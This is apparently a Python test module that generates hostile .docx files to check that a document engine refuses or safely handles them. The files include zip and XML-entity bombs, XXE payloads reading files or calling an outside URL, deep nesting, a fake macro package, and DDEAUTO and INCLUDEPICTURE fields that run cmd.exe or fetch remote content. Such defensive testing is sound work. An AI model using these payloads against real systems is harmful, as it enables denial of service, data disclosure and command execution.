"""Word packages: bombs of paragraphs, pictures, entities and depth, external entities, and things that call out."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterable

from tests.engines import samples
from tests.hostile.kinds.kind import Outside, kind

_NAME = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_HEAD = f'<?xml version="1.0" encoding="UTF-8"?><w:document {_NAME}><w:body>'
_TAIL = "</w:body></w:document>"
MAIN = "word/document.xml"


def package(main: Iterable[str], extra: dict[str, Iterable[bytes]] | None = None) -> bytes:
    """A docx whose main part is written piece by piece, as a bomb must be."""
    parts = samples.members(samples.docx("x"))
    parts.pop(MAIN)
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
        with made.open(MAIN, "w") as file:
            for piece in main:
                file.write(piece.encode())
        for name, pieces in (extra or {}).items():
            with made.open(zipfile.ZipInfo(name), "w") as file:
                for block in pieces:
                    file.write(block)
    return data.getvalue()


def document(body: str, *, head: str = _HEAD) -> bytes:
    """A docx of this body."""
    return package([head, body, _TAIL])


def _many(piece: str, times: int, *, step: int = 10_000) -> bytes:
    return package([_HEAD, *[piece * step] * (times // step), _TAIL])


def _two_gibibytes(_: Outside) -> bytes:
    block = bytes(1 << 20)
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as made:
        for name, content in samples.members(samples.docx("x")).items():
            made.writestr(name, content)
        for n in (1, 2):
            info = zipfile.ZipInfo(f"word/media/image{n}.bmp")
            info.compress_type = zipfile.ZIP_DEFLATED
            with made.open(info, "w", force_zip64=True) as file:
                for _n in range(1024):
                    file.write(block)
    return data.getvalue()


def _entries(count: int) -> bytes:
    parts = samples.members(samples.docx("x"))
    return samples.zipped({**parts, **{f"word/x{n}": b"" for n in range(count)}})


def _entities(declared: str, used: str) -> bytes:
    head = f'<?xml version="1.0"?><!DOCTYPE d [{declared}]><w:document {_NAME}><w:body>'
    return document(f"<w:p><w:r><w:t>{used}</w:t></w:r></w:p>", head=head)


def _laughs(_: Outside) -> bytes:
    levels = ['<!ENTITY a0 "ha">']
    levels += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    return _entities("".join(levels), "&a9;")


def _blow_up(_: Outside) -> bytes:
    return _entities(f'<!ENTITY a "{"x" * 100_000}">', "&a;" * 50_000)


def _nested(opening: str, closing: str, depth: int) -> bytes:
    return document(opening * depth + "<w:p><w:r><w:t>deep</w:t></w:r></w:p>" + closing * depth)


_CELL = '<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w="9000"/></w:tblGrid><w:tr><w:tc><w:tcPr/>'
_BREAK = '<w:p><w:r><w:t>字</w:t><w:br w:type="page"/></w:r></w:p>'


def _macro(_: Outside) -> bytes:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return samples.retyped(
        samples.docx("Please enable content."),
        main,
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)},
    )


def _fields(out: Outside) -> bytes:
    """DDE, INCLUDEPICTURE, INCLUDETEXT and an automatic link, all marked to be updated."""
    words = (
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;",
        f"INCLUDEPICTURE &quot;{out.url}/docx-field&quot; \\d",
        f"INCLUDETEXT &quot;{out.text}&quot;",
        f"LINK Word.Document.8 &quot;{out.text}&quot; &quot;&quot; \\a \\p",
    )
    mark = '<w:r><w:fldChar w:fldCharType="{}" w:dirty="true"/></w:r>'
    body = "".join(
        f"<w:p>{mark.format('begin')}<w:r><w:instrText>{word}</w:instrText></w:r>{mark.format('end')}</w:p>"
        for word in words
    )
    return document(body)


_STOPPED = "text only: timeout | text only: memory | text only: output_too_big | kept: timeout | kept: memory"
_MANY = f"published | kept: too_many_pages | text only: too_many_pages | {_STOPPED}"

KINDS = (
    kind(
        "docx-three-million-paragraphs.docx",
        f"refused: archive_bomb | {_MANY}",
        lambda _: _many("<w:p/>", 3_000_000),
        dear=True,
    ),
    kind("docx-two-gibibytes.docx", "refused: archive_bomb", _two_gibibytes, dear=True),
    kind("docx-entries.docx", "refused: unsafe_archive", lambda _: _entries(10_000)),
    kind("docx-hundred-thousand-entries.docx", "refused: unsafe_archive", lambda _: _entries(100_000), dear=True),
    kind("docx-laughs.docx", "refused: xml_entities", _laughs),
    kind("docx-entity-blow-up.docx", "refused: xml_entities", _blow_up),
    kind(
        "docx-xxe-file.docx",
        "refused: xml_entities",
        lambda out: _entities(f'<!ENTITY x SYSTEM "{out.text}">', "&x;"),
    ),
    kind(
        "docx-xxe-http.docx",
        "refused: xml_entities",
        lambda out: _entities(f'<!ENTITY % x SYSTEM "{out.url}/docx-xxe">%x;', "x"),
    ),
    kind(
        "docx-nested-sdt.docx",
        "refused: unsafe_archive",
        lambda _: _nested("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", 50_000),
    ),
    kind(
        "docx-nested-tables.docx",
        "refused: unsafe_archive",
        lambda _: _nested(_CELL, "<w:p/></w:tc></w:tr></w:tbl>", 300),
    ),
    kind(
        "docx-million-paragraphs.docx",
        f"refused: archive_bomb | {_MANY}",
        lambda _: _many("<w:p><w:r><w:t>字</w:t></w:r></w:p>", 1_000_000),
        dear=True,
    ),
    kind("docx-page-breaks.docx", _MANY, lambda _: _many(_BREAK, 100_000), dear=True),
    kind(
        "docx-page-giant.docx",
        f"published | kept: output_too_big | text only: output_too_big | kept: unreadable | {_STOPPED}",
        lambda _: document(
            '<w:p><w:r><w:t>字</w:t></w:r></w:p><w:sectPr><w:pgSz w:w="2147483647" w:h="2147483647"/></w:sectPr>'
        ),
    ),
    kind("docx-macro.docm", "published", _macro),
    kind("docx-fields.docx", "published", _fields),
)
